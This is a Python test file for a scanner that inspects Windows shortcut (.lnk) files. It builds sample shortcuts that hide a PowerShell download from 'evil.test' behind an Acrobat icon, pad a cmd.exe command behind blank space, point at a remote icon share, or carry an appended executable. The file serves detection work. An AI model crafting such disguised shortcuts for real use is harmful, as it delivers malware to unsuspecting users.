import struct

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sekisho.mime.documents import lnk

HEAD = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"


def a_shortcut(arguments="", icon="", relative="", target=b"", behind=b""):
    flags, body = 0x80, b""
    if target:
        flags |= 1
        item = struct.pack("<H", len(target) + 2) + target
        body += struct.pack("<H", len(item) + 2) + item + b"\0\0"
    for flag, value in ((0x08, relative), (0x20, arguments), (0x40, icon)):
        if value:
            flags |= flag
            body += struct.pack("<H", len(value)) + value.encode("utf-16-le")
    return (HEAD + struct.pack("<I", flags)).ljust(76, b"\0") + body + behind


def test_what_it_starts_and_how(look):
    looking = look(lnk.look, a_shortcut("-w hidden -c iwr http://evil.test/a", "C:\\acrobat.exe", "..\\..\\Windows\\powershell.exe"))
    assert "powershell.exe -w hidden" in looking.signs["shortcut_runs"].detail
    assert "shown as" in looking.signs["shortcut_runs"].detail
    assert "http://evil.test/a" in looking.links


def test_instructions_behind_blank_space(look):
    assert "shortcut_padded" in look(lnk.look, a_shortcut(" " * 300 + "/c calc", relative="cmd.exe")).signs


def test_a_target_on_another_computer(look):
    assert "shortcut_remote" in look(lnk.look, a_shortcut(icon="\\\\evil.test\\s\\i.ico", relative="a")).signs


def test_a_file_behind_it_is_handed_on(look):
    looking = look(lnk.look, a_shortcut("/c x", relative="cmd.exe", behind=bytes(5_000) + b"MZ\x90\0" + bytes(50)))
    assert [member.octets[:2] for member in looking.members] == [b"MZ"]


def test_a_plain_shortcut(look):
    looking = look(lnk.look, a_shortcut(relative=".\\Minutes.docx"))
    assert (looking.signs, looking.members, looking.links) == ({}, [], {})
    assert lnk.read_shortcut(a_shortcut(relative=".\\Minutes.docx")).texts == {"relative": ".\\Minutes.docx"}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.integers(0, 0xFFFFFFFF), st.binary(max_size=300))
def test_broken_ones_raise_nothing(look, flags, body):
    look(lnk.look, (HEAD + struct.pack("<I", flags)).ljust(76, b"\0") + body)
    look(lnk.look, body)
